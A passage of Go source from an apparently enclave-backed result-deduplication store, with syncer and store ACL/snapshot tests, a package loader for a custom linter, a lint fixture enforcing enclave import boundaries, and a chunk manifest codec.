	env := newTestCluster(t, 3, Config{Replicas: 2, ProbeInterval: time.Hour})

	// Find a tag with a non-owner member to act as the donor.
	var tag = ctag("sync-seed")
	var owners []int
	donor := -1
	for i := 0; donor < 0; i++ {
		tag = ctag(fmt.Sprintf("sync-%d", i))
		owners = env.client.ring.owners(tag, 2)
		for ni := range env.nodes {
			if ni != owners[0] && ni != owners[1] {
				donor = ni
			}
		}
	}
	sealed := csealed("sync")
	if _, err := env.nodes[donor].st.Put(env.app.Measurement(), tag, sealed); err != nil {
		t.Fatalf("donor put: %v", err)
	}
	// Heat it up past the popularity threshold.
	for i := 0; i < 3; i++ {
		if _, found, err := env.nodes[donor].st.Get(tag); err != nil || !found {
			t.Fatalf("donor get: (found=%v, %v)", found, err)
		}
	}

	s := NewSyncer(env.client, SyncConfig{MinHits: 2, Logf: t.Logf})
	copied, err := s.SyncOnce()
	if err != nil {
		t.Fatalf("SyncOnce: %v", err)
	}
	if copied != 1 {
		t.Errorf("SyncOnce copied %d entries, want 1", copied)
	}
	for _, ni := range owners {
		if !env.hasTag(ni, tag) {
			t.Errorf("hot result missing from ring owner %d after sync", ni)
		}
	}
	// A routed Get now hits without touching the donor.
	if _, found, err := env.client.Get(tag); err != nil || !found {
		t.Errorf("routed Get after sync = (found=%v, %v), want hit", found, err)
	}

	// A second pass re-pulls the same entry but must not re-place it.
	copied, err = s.SyncOnce()
	if err != nil {
		t.Fatalf("second SyncOnce: %v", err)
	}
	if copied != 0 {
		t.Errorf("second SyncOnce copied %d entries, want 0", copied)
	}
	if s.Copied() != 1 {
		t.Errorf("Copied() = %d, want 1", s.Copied())
	}
}

// TestSyncerSkipsPresentEntries: an entry that is hot on a non-owner
// but already stored at its primary (chunked dedup's common case —
// content-addressed chunks shared across results land everywhere) is
// probed via HAS_BATCH and never shipped.
func TestSyncerSkipsPresentEntries(t *testing.T) {
	env := newTestCluster(t, 2, Config{Replicas: 1, ProbeInterval: time.Hour})
	tag := ctag("already-there")
	primary := env.client.ring.owners(tag, 1)[0]
	donor := 1 - primary
	sealed := csealed("shared chunk")
	for _, ni := range []int{primary, donor} {
		if _, err := env.nodes[ni].st.Put(env.app.Measurement(), tag, sealed); err != nil {
			t.Fatalf("put on %d: %v", ni, err)
		}
	}
	// Hot on the donor only; the primary never served it.
	for i := 0; i < 3; i++ {
		if _, found, err := env.nodes[donor].st.Get(tag); err != nil || !found {
			t.Fatalf("donor get: (found=%v, %v)", found, err)
		}
	}

	s := NewSyncer(env.client, SyncConfig{MinHits: 2, Logf: t.Logf})
	copied, err := s.SyncOnce()
	if err != nil {
		t.Fatalf("SyncOnce: %v", err)
	}
	if copied != 0 {
		t.Errorf("SyncOnce copied %d entries, want 0 (primary already holds it)", copied)
	}
	if s.Skipped() != 1 {
		t.Errorf("Skipped() = %d, want 1", s.Skipped())
	}
}

// TestClientHasBatch routes existence probes to each tag's primary.
func TestClientHasBatch(t *testing.T) {
	env := newTestCluster(t, 3, Config{Replicas: 1, ProbeInterval: time.Hour})
	have := ctag("present-tag")
	primary := env.client.ring.owners(have, 1)[0]
	if _, err := env.nodes[primary].st.Put(env.app.Measurement(), have, csealed("v")); err != nil {
		t.Fatalf("put: %v", err)
	}
	present, err := env.client.HasBatch([]mle.Tag{have, ctag("absent-tag")})
	if err != nil {
		t.Fatalf("HasBatch: %v", err)
	}
	if len(present) != 2 || !present[0] || present[1] {
		t.Fatalf("HasBatch = %v, want [true false]", present)
	}
}

// TestSyncerPeriodic drives the Start/Stop loop.
func TestSyncerPeriodic(t *testing.T) {
	env := newTestCluster(t, 2, Config{Replicas: 1, ProbeInterval: time.Hour})
	tag := ctag("periodic")
	primary := env.client.ring.owners(tag, 1)[0]
	other := 1 - primary
	if _, err := env.nodes[other].st.Put(env.app.Measurement(), tag, csealed("periodic")); err != nil {
		t.Fatalf("put: %v", err)
	}
	for i := 0; i < 3; i++ {
		env.nodes[other].st.Get(tag)
	}

	s := NewSyncer(env.client, SyncConfig{MinHits: 2, Interval: 5 * time.Millisecond, Logf: t.Logf})
	s.Start()
	defer s.Stop()
	deadline := time.Now().Add(5 * time.Second)
	for s.Copied() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("periodic syncer never copied the hot entry")
		}
		time.Sleep(time.Millisecond)
	}
	if !env.hasTag(primary, tag) {
		t.Error("hot entry not placed on its primary")
	}
}

// TestSyncerSkipsDownMembers: a dead member neither blocks the pass nor
// hides other members' hot entries.
func TestSyncerSkipsDownMembers(t *testing.T) {
	env := newTestCluster(t, 3, Config{Replicas: 2, FailThreshold: 1, ProbeInterval: time.Hour})
	// Mark node 2 down the way the router would: kill it and let a
	// probe-style failure flip it.
	env.nodes[2].kill(t)
	env.client.noteFailure(env.client.nodes[2], fmt.Errorf("test: member killed"))

	donor := 0
	tag := ctag("skip-down")
	if _, err := env.nodes[donor].st.Put(env.app.Measurement(), tag, csealed("skip")); err != nil {
		t.Fatalf("put: %v", err)
	}
	for i := 0; i < 3; i++ {
		env.nodes[donor].st.Get(tag)
	}
	s := NewSyncer(env.client, SyncConfig{MinHits: 2, Logf: t.Logf})
	copied, err := s.SyncOnce()
	if err != nil {
		t.Fatalf("SyncOnce with a down member: %v", err)
	}
	if copied < 1 {
		t.Errorf("SyncOnce copied %d entries, want >= 1", copied)
	}
}
