package lint

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Loader parses and type-checks the packages of one module without
// shelling out to the go tool or importing golang.org/x/tools. Local
// packages are type-checked from source in dependency order; standard
// library imports go through the stdlib source importer; anything that
// cannot be resolved degrades to an empty stub package so analysis
// continues with partial type information rather than failing the run.
type Loader struct {
	// Fset is shared by every parsed file and the stdlib importer.
	Fset *token.FileSet
	// ModuleRoot is the directory containing go.mod.
	ModuleRoot string
	// ModulePath is the module's import path (the go.mod module line).
	ModulePath string
	// ExtraRoots maps additional import-path prefixes to directories,
	// used by tests to resolve fixture-tree imports.
	ExtraRoots map[string]string
	// IncludeTests also parses _test.go files. Off by default: the
	// suite targets production code.
	IncludeTests bool

	std     types.Importer
	pkgs    map[string]*Package // by import path
	stubs   map[string]*types.Package
	loading map[string]bool
}

// NewLoader creates a loader rooted at the module containing dir,
// reading the module path from go.mod.
func NewLoader(dir string) (*Loader, error) {
	root, err := findModuleRoot(dir)
	if err != nil {
		return nil, err
	}
	path, err := readModulePath(filepath.Join(root, "go.mod"))
	if err != nil {
		return nil, err
	}
	fset := token.NewFileSet()
	return &Loader{
		Fset:       fset,
		ModuleRoot: root,
		ModulePath: path,
		std:        importer.ForCompiler(fset, "source", nil),
		pkgs:       make(map[string]*Package),
		stubs:      make(map[string]*types.Package),
		loading:    make(map[string]bool),
	}, nil
}

// findModuleRoot walks up from dir to the directory containing go.mod.
func findModuleRoot(dir string) (string, error) {
	dir, err := filepath.Abs(dir)
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("lint: no go.mod found above %s", dir)
		}
		dir = parent
	}
}

// readModulePath extracts the module path from a go.mod file.
func readModulePath(gomod string) (string, error) {
	data, err := os.ReadFile(gomod)
	if err != nil {
		return "", err
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module"); ok {
			return strings.Trim(strings.TrimSpace(rest), `"`), nil
		}
	}
	return "", fmt.Errorf("lint: no module line in %s", gomod)
}

// LoadModule loads every package under the module root, skipping
// testdata, vendor and hidden directories. Packages come back sorted by
// import path.
func (l *Loader) LoadModule() ([]*Package, error) {
	var dirs []string
	err := filepath.WalkDir(l.ModuleRoot, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		name := d.Name()
		if path != l.ModuleRoot &&
			(name == "testdata" || name == "vendor" ||
				strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
			return filepath.SkipDir
		}
		if hasGoFiles(path) {
			dirs = append(dirs, path)
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	var pkgs []*Package
	for _, dir := range dirs {
		rel, err := filepath.Rel(l.ModuleRoot, dir)
		if err != nil {
			return nil, err
		}
		path := l.ModulePath
		if rel != "." {
			path = l.ModulePath + "/" + filepath.ToSlash(rel)
		}
		pkg, err := l.LoadDir(dir, path)
		if err != nil {
			return nil, fmt.Errorf("lint: load %s: %w", path, err)
		}
		if pkg != nil {
			pkgs = append(pkgs, pkg)
		}
	}
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].Path < pkgs[j].Path })
	return pkgs, nil
}

// hasGoFiles reports whether dir directly contains at least one
// non-test .go file.
func hasGoFiles(dir string) bool {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		name := e.Name()
		if !e.IsDir() && strings.HasSuffix(name, ".go") && !strings.HasSuffix(name, "_test.go") {
			return true
		}
	}
	return false
}

// LoadDir parses and type-checks the single package in dir under the
// given import path, returning a cached result on repeated calls. A dir
// without loadable files returns (nil, nil).
func (l *Loader) LoadDir(dir, path string) (*Package, error) {
	if pkg, ok := l.pkgs[path]; ok {
		return pkg, nil
	}
	if l.loading[path] {
		return nil, fmt.Errorf("import cycle through %s", path)
	}
	l.loading[path] = true
	defer delete(l.loading, path)

	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var files []*ast.File
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") {
			continue
		}
		if !l.IncludeTests && strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(l.Fset, filepath.Join(dir, name), nil, parser.ParseComments)
		if err != nil {
			return nil, err
		}
		if ignoredByBuildTag(f) {
			continue
		}
		files = append(files, f)
	}
	if len(files) == 0 {
		return nil, nil
	}

	pkg := &Package{
		Path:  path,
		Dir:   dir,
		Fset:  l.Fset,
		Files: files,
		Info: &types.Info{
			Types:      make(map[ast.Expr]types.TypeAndValue),
			Defs:       make(map[*ast.Ident]types.Object),
			Uses:       make(map[*ast.Ident]types.Object),
			Selections: make(map[*ast.SelectorExpr]*types.Selection),
			Implicits:  make(map[ast.Node]types.Object),
		},
	}
	conf := types.Config{
		Importer:         l,
		FakeImportC:      true,
		IgnoreFuncBodies: false,
		Error: func(err error) {
			pkg.TypeErrors = append(pkg.TypeErrors, err)
		},
	}
	// Type-check tolerantly: errors are collected, not fatal, so a
	// package with unresolved imports still yields partial type info.
	tpkg, _ := conf.Check(path, l.Fset, files, pkg.Info)
	if tpkg == nil {
		tpkg = types.NewPackage(path, files[0].Name.Name)
	}
	pkg.Types = tpkg
	pkg.scanDirectives()
	l.pkgs[path] = pkg
	return pkg, nil
}

// ignoredByBuildTag reports whether a file opts out of the build via a
// `//go:build ignore`-style constraint. Full constraint evaluation is
// out of scope; only the common ignore marker is honoured.
func ignoredByBuildTag(f *ast.File) bool {
	for _, cg := range f.Comments {
		if cg.End() >= f.Package {
			break
		}
		for _, c := range cg.List {
			text := strings.TrimSpace(strings.TrimPrefix(c.Text, "//"))
			if text == "go:build ignore" || strings.HasPrefix(text, "+build ignore") {
				return true
			}
		}
	}
	return false
}

// Import implements types.Importer, resolving module-local and
// fixture-tree paths through the loader itself and everything else
// through the stdlib source importer, degrading to an empty stub
// package when resolution fails.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == "unsafe" {
		return types.Unsafe, nil
	}
	if dir, ok := l.resolveLocal(path); ok {
		pkg, err := l.LoadDir(dir, path)
		if err == nil && pkg != nil && pkg.Types != nil {
			return pkg.Types, nil
		}
		return l.stub(path), nil
	}
	if tpkg, err := l.std.Import(path); err == nil {
		return tpkg, nil
	}
	return l.stub(path), nil
}

// resolveLocal maps an import path inside the module (or an extra
// fixture root) to its directory.
func (l *Loader) resolveLocal(path string) (string, bool) {
	if path == l.ModulePath {
		return l.ModuleRoot, true
	}
	if rest, ok := strings.CutPrefix(path, l.ModulePath+"/"); ok {
		return filepath.Join(l.ModuleRoot, filepath.FromSlash(rest)), true
	}
	for prefix, dir := range l.ExtraRoots {
		if path == prefix {
			return dir, true
		}
		if rest, ok := strings.CutPrefix(path, prefix+"/"); ok {
			return filepath.Join(dir, filepath.FromSlash(rest)), true
		}
	}
	return "", false
}

// stub returns (and caches) an empty placeholder for an unresolvable
// import, letting type-checking proceed with holes instead of failing.
func (l *Loader) stub(path string) *types.Package {
	if p, ok := l.stubs[path]; ok {
		return p
	}
	name := path
	if i := strings.LastIndexByte(name, '/'); i >= 0 {
		name = name[i+1:]
	}
	p := types.NewPackage(path, name)
	p.MarkComplete()
	l.stubs[path] = p
	return p
}
