// Package tcb is a trusted enclave package that illegally reaches the
// untrusted I/O layer.
//
//speedlint:trusted
package tcb

import (
	_ "net" // want `trusted package fix/enclaveboundary/tcb imports net; the enclave TCB must not reach the network`
	_ "os"  // want `trusted package fix/enclaveboundary/tcb imports os; the enclave TCB must not reach the host OS`

	_ "fix/enclaveboundary/wire" // want `trusted package fix/enclaveboundary/tcb imports fix/enclaveboundary/wire; the enclave TCB must not reach the untrusted wire layer`
)

// Compute is the kind of pure function the TCB is allowed to hold.
func Compute(input []byte) []byte { return input }
