package store

import (
	"errors"
	"testing"

	"speed/internal/enclave"
)

func TestACLDefaults(t *testing.T) {
	open := NewACL(PermAll)
	if err := open.Authorize(ownerOf("any"), tagOf("t"), PermGet|PermPut); err != nil {
		t.Errorf("open ACL denied: %v", err)
	}
	closed := NewACL(0)
	if err := closed.Authorize(ownerOf("any"), tagOf("t"), PermGet); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("closed ACL allowed: %v", err)
	}
}

func TestACLGrantRevoke(t *testing.T) {
	acl := NewACL(0)
	app := ownerOf("app")
	acl.Grant(app, PermGet)
	if err := acl.Authorize(app, tagOf("t"), PermGet); err != nil {
		t.Errorf("granted get denied: %v", err)
	}
	if err := acl.Authorize(app, tagOf("t"), PermPut); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("ungranted put allowed: %v", err)
	}
	if err := acl.Authorize(app, tagOf("t"), PermGet|PermPut); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("partial grant satisfied combined permission: %v", err)
	}
	acl.Grant(app, PermAll)
	if err := acl.Authorize(app, tagOf("t"), PermGet|PermPut); err != nil {
		t.Errorf("full grant denied: %v", err)
	}
	acl.Revoke(app)
	if err := acl.Authorize(app, tagOf("t"), PermGet); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("revoked app allowed: %v", err)
	}
}

func TestStoreAuthorizationGet(t *testing.T) {
	acl := NewACL(0)
	reader := ownerOf("reader")
	writer := ownerOf("writer")
	acl.Grant(reader, PermGet)
	acl.Grant(writer, PermAll)
	s := testStore(t, Config{Auth: acl})

	tag := tagOf("t")
	if _, err := s.Put(writer, tag, sealedOf("blob")); err != nil {
		t.Fatalf("writer Put: %v", err)
	}
	if _, found, err := s.GetAs(reader, tag); err != nil || !found {
		t.Errorf("reader GetAs = (%v, %v), want found", found, err)
	}
	// Reader may not put.
	if _, err := s.Put(reader, tagOf("t2"), sealedOf("x")); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("reader Put = %v, want ErrUnauthorized", err)
	}
	// Unknown app may do nothing.
	if _, _, err := s.GetAs(ownerOf("stranger"), tag); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("stranger GetAs = %v, want ErrUnauthorized", err)
	}
	if got := s.Stats().Unauthorized; got != 2 {
		t.Errorf("Unauthorized = %d, want 2", got)
	}
}

func TestStoreNoAuthorizerIsOpen(t *testing.T) {
	s := testStore(t, Config{})
	if _, err := s.Put(ownerOf("anyone"), tagOf("t"), sealedOf("b")); err != nil {
		t.Errorf("Put without authorizer: %v", err)
	}
	if _, _, err := s.GetAs(ownerOf("anyone"), tagOf("t")); err != nil {
		t.Errorf("GetAs without authorizer: %v", err)
	}
}

func TestObliviousLookup(t *testing.T) {
	s := testStore(t, Config{Oblivious: true})
	owner := ownerOf("app")
	for i := 0; i < 20; i++ {
		if _, err := s.Put(owner, tagOf(string(rune('a'+i))), sealedOf("blob")); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	got, found, err := s.Get(tagOf("c"))
	if err != nil || !found {
		t.Fatalf("Get = (%v, %v), want found", found, err)
	}
	if string(got.Blob) != "blob" {
		t.Errorf("Get blob = %q", got.Blob)
	}
	if _, found, err := s.Get(tagOf("nonexistent")); err != nil || found {
		t.Errorf("oblivious miss = (%v, %v), want not found", found, err)
	}
}

func TestObliviousModeSkipsLRUUpdate(t *testing.T) {
	// In oblivious mode, Gets must not reorder the LRU: with
	// MaxEntries=2, touching the older entry does not save it.
	s := testStore(t, Config{Oblivious: true, MaxEntries: 2})
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("a"), sealedOf("A")); err != nil {
		t.Fatalf("Put a: %v", err)
	}
	if _, err := s.Put(owner, tagOf("b"), sealedOf("B")); err != nil {
		t.Fatalf("Put b: %v", err)
	}
	if _, found, _ := s.Get(tagOf("a")); !found {
		t.Fatal("a missing")
	}
	if _, err := s.Put(owner, tagOf("c"), sealedOf("C")); err != nil {
		t.Fatalf("Put c: %v", err)
	}
	// Insertion order eviction: "a" goes despite being touched.
	if _, found, _ := s.Get(tagOf("a")); found {
		t.Error("oblivious Get still refreshed LRU position")
	}
	if _, found, _ := s.Get(tagOf("b")); !found {
		t.Error("b wrongly evicted")
	}
}

func TestSnapshotRoundTrip(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-1")})
	enc1, err := p.Create("store-1", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	s1, err := New(Config{Enclave: enc1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	owner := ownerOf("app")
	for i := 0; i < 5; i++ {
		if _, err := s1.Put(owner, tagOf(string(rune('a'+i))), sealedOf("blob-"+string(rune('a'+i)))); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	// Accumulate hits on one entry.
	for i := 0; i < 3; i++ {
		s1.Get(tagOf("b"))
	}

	snap, err := s1.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}

	// "Restart": a fresh platform with the same seed (same machine),
	// same store code.
	p2 := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-1")})
	enc2, err := p2.Create("store-2", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	s2, err := New(Config{Enclave: enc2})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	n, err := s2.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 5 {
		t.Errorf("restored %d entries, want 5", n)
	}
	for i := 0; i < 5; i++ {
		key := string(rune('a' + i))
		got, found, err := s2.Get(tagOf(key))
		if err != nil || !found {
			t.Fatalf("restored Get(%s) = (%v, %v)", key, found, err)
		}
		if string(got.Blob) != "blob-"+key {
			t.Errorf("restored blob = %q, want %q", got.Blob, "blob-"+key)
		}
	}
	// Hit counts survive (replication popularity is preserved).
	entries, err := s2.Export(3)
	if err != nil {
		t.Fatalf("Export: %v", err)
	}
	if len(entries) != 1 || entries[0].Tag != tagOf("b") {
		t.Errorf("hot entry hits lost: Export(3) = %d entries", len(entries))
	}
}

func TestSnapshotRejectsWrongIdentity(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-1")})
	enc1, _ := p.Create("store-1", []byte("store code v1"))
	s1, err := New(Config{Enclave: enc1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if _, err := s1.Put(ownerOf("app"), tagOf("t"), sealedOf("b")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	snap, err := s1.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}

	// Different store code on the same machine: must not unseal.
	encEvil, _ := p.Create("evil", []byte("EVIL store code"))
	sEvil, err := New(Config{Enclave: encEvil})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if _, err := sEvil.RestoreSnapshot(snap); !errors.Is(err, enclave.ErrUnsealFailed) {
		t.Errorf("evil RestoreSnapshot = %v, want ErrUnsealFailed", err)
	}

	// Same code on a different machine: must not unseal.
	p2 := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-2")})
	enc2, _ := p2.Create("store-1", []byte("store code v1"))
	s2, err := New(Config{Enclave: enc2})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if _, err := s2.RestoreSnapshot(snap); !errors.Is(err, enclave.ErrUnsealFailed) {
		t.Errorf("cross-machine RestoreSnapshot = %v, want ErrUnsealFailed", err)
	}
}

func TestSnapshotTamperDetected(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("m")})
	enc, _ := p.Create("store", []byte("code"))
	s, err := New(Config{Enclave: enc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if _, err := s.Put(ownerOf("app"), tagOf("t"), sealedOf("b")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	snap, err := s.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}
	snap[len(snap)/2] ^= 0x01
	if _, err := s.RestoreSnapshot(snap); !errors.Is(err, enclave.ErrUnsealFailed) {
		t.Errorf("tampered RestoreSnapshot = %v, want ErrUnsealFailed", err)
	}
}

func TestSnapshotDuplicatesSkipped(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("m")})
	enc, _ := p.Create("store", []byte("code"))
	s, err := New(Config{Enclave: enc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("t"), sealedOf("original")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	snap, err := s.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}
	// Restoring into the same live store installs nothing new.
	n, err := s.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 0 {
		t.Errorf("restored %d duplicates, want 0", n)
	}
	if s.Len() != 1 {
		t.Errorf("Len = %d, want 1", s.Len())
	}
}

// Restore is an operator action: it must succeed into a
// deny-by-default store even before any application is re-authorized,
// and despite rate limits.
func TestSnapshotRestoreBypassesAuthAndRateLimit(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("m")})
	enc1, _ := p.Create("store-a", []byte("code"))
	s1, err := New(Config{Enclave: enc1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	owner := ownerOf("app")
	for i := 0; i < 5; i++ {
		if _, err := s1.Put(owner, tagOf(string(rune('a'+i))), sealedOf("b")); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	snap, err := s1.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}

	enc2, _ := p.Create("store-b", []byte("code"))
	s2, err := New(Config{
		Enclave: enc2,
		Auth:    NewACL(0), // deny everything
		Quota:   QuotaConfig{PutRatePerSec: 0.001, PutBurst: 1},
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	n, err := s2.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 5 {
		t.Errorf("restored %d entries under ACL+rate limit, want 5", n)
	}
}

func TestSnapshotEmptyStore(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("m")})
	enc, _ := p.Create("store", []byte("code"))
	s, err := New(Config{Enclave: enc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	snap, err := s.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}
	n, err := s.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 0 {
		t.Errorf("restored %d from empty snapshot", n)
	}
}
