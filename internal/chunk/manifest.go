package chunk

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
)

// The manifest is what a chunked call stores under its primary tag
// instead of the result itself: the ordered list of chunk references
// (content hash + length) plus a digest of the whole result. It is
// sealed with the call's own RCE keys under a manifest-specific derived
// function identity (see crypto.go), so only an application that owns
// the function code and input can read it — and a runtime that predates
// chunking decrypts it under the primary identity, gets ErrAuthFailed,
// and safely recomputes.
//
// Byte layout (all integers big-endian):
//
//	magic   [4]byte  "SPCM"
//	version byte     1
//	count   uint32   number of chunk references (≤ MaxManifestChunks)
//	total   uint64   whole-result length; must equal the sum of lengths
//	digest  [32]byte SHA-256 of the whole result (domain-separated)
//	refs    count × (hash [32]byte | length uint32)
//
// Trust model: the manifest itself is authenticated (it travels inside
// an AEAD-sealed triple), but the chunks it references are fetched from
// the untrusted store; each decrypted chunk is verified against its
// manifest hash and the reassembled result against the whole-result
// digest, so a store that swaps, truncates or corrupts chunks produces
// a loud verification failure, never a wrong result.

// ManifestVersion is the current manifest format version.
const ManifestVersion = 1

// MaxManifestChunks bounds one manifest's chunk count so its chunk
// fetch always fits a single batch GET (it equals wire.MaxBatchItems;
// chunk_test pins the equality without importing wire here). With the
// default geometry that caps one chunked result at count × Max = 256MiB.
const MaxManifestChunks = 4096

// refSize is the encoded size of one chunk reference.
const refSize = 32 + 4

// manifestHeaderSize is the encoded size up to the first reference.
const manifestHeaderSize = 4 + 1 + 4 + 8 + 32

var manifestMagic = [4]byte{'S', 'P', 'C', 'M'}

// ErrManifest is returned when manifest bytes fail validation.
var ErrManifest = errors.New("chunk: malformed manifest")

// Ref is one chunk reference: the chunk's content hash (which derives
// its tag and its decryption input) and its plaintext length.
type Ref struct {
	Hash   [32]byte
	Length uint32
}

// Manifest describes one chunked result.
type Manifest struct {
	// Digest is the domain-separated SHA-256 of the whole result.
	Digest [32]byte
	// Total is the whole-result length in bytes.
	Total uint64
	// Refs lists the chunks in result order.
	Refs []Ref
}

// BuildManifest hashes the chunks (in order, as produced by Split) and
// assembles their manifest. It fails when the chunk count exceeds
// MaxManifestChunks — the caller should fall back to the whole-result
// path for such outsized results.
func BuildManifest(chunks [][]byte) (Manifest, error) {
	if len(chunks) > MaxManifestChunks {
		return Manifest{}, fmt.Errorf("chunk: %d chunks exceed %d per manifest", len(chunks), MaxManifestChunks)
	}
	m := Manifest{Refs: make([]Ref, len(chunks))}
	d := sha256.New()
	d.Write(digestDomain)
	for i, c := range chunks {
		m.Refs[i] = Ref{Hash: Hash(c), Length: uint32(len(c))}
		m.Total += uint64(len(c))
		d.Write(c)
	}
	d.Sum(m.Digest[:0])
	return m, nil
}

// digestDomain separates the whole-result digest from plain SHA-256 of
// the same bytes (and from the per-chunk hash domain).
var digestDomain = []byte("speed/chunk/digest/v1\x00")

// DigestOf computes the whole-result digest over an already-assembled
// result, for verification after reassembly.
func DigestOf(result []byte) [32]byte {
	d := sha256.New()
	d.Write(digestDomain)
	d.Write(result)
	var out [32]byte
	d.Sum(out[:0])
	return out
}

// Encode serialises the manifest.
func (m Manifest) Encode() []byte {
	return m.AppendEncode(make([]byte, 0, manifestHeaderSize+len(m.Refs)*refSize))
}

// AppendEncode serialises the manifest into buf, following the append
// convention.
func (m Manifest) AppendEncode(buf []byte) []byte {
	buf = append(buf, manifestMagic[:]...)
	buf = append(buf, ManifestVersion)
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(m.Refs)))
	buf = binary.BigEndian.AppendUint64(buf, m.Total)
	buf = append(buf, m.Digest[:]...)
	for _, r := range m.Refs {
		buf = append(buf, r.Hash[:]...)
		buf = binary.BigEndian.AppendUint32(buf, r.Length)
	}
	return buf
}

// DecodeManifest parses and validates manifest bytes. It is strict:
// wrong magic, unknown version, oversized count, trailing bytes or a
// total that disagrees with the sum of the chunk lengths all fail —
// a manifest travels sealed, so any mismatch is corruption or a format
// bug, never benign.
func DecodeManifest(b []byte) (Manifest, error) {
	var m Manifest
	if len(b) < manifestHeaderSize {
		return m, fmt.Errorf("%w: %d bytes", ErrManifest, len(b))
	}
	if [4]byte(b[:4]) != manifestMagic {
		return m, fmt.Errorf("%w: bad magic", ErrManifest)
	}
	if b[4] != ManifestVersion {
		return m, fmt.Errorf("%w: unknown version %d", ErrManifest, b[4])
	}
	count := binary.BigEndian.Uint32(b[5:9])
	if count > MaxManifestChunks {
		return m, fmt.Errorf("%w: %d chunks exceed %d", ErrManifest, count, MaxManifestChunks)
	}
	m.Total = binary.BigEndian.Uint64(b[9:17])
	copy(m.Digest[:], b[17:49])
	b = b[manifestHeaderSize:]
	if len(b) != int(count)*refSize {
		return Manifest{}, fmt.Errorf("%w: body %d bytes for %d refs", ErrManifest, len(b), count)
	}
	m.Refs = make([]Ref, count)
	var sum uint64
	for i := range m.Refs {
		copy(m.Refs[i].Hash[:], b[:32])
		m.Refs[i].Length = binary.BigEndian.Uint32(b[32:36])
		sum += uint64(m.Refs[i].Length)
		b = b[refSize:]
	}
	if sum != m.Total {
		return Manifest{}, fmt.Errorf("%w: lengths sum to %d, total says %d", ErrManifest, sum, m.Total)
	}
	return m, nil
}
