package wire

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/ecdh"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
)

// The secure channel between a DedupRuntime and the ResultStore. The
// handshake performs an X25519 key exchange in which each side's
// ephemeral public key is bound to its enclave identity by a local
// attestation report (Section II-B: "the integrity of an application is
// correctly verified ... by the attestation mechanism of Intel SGX").
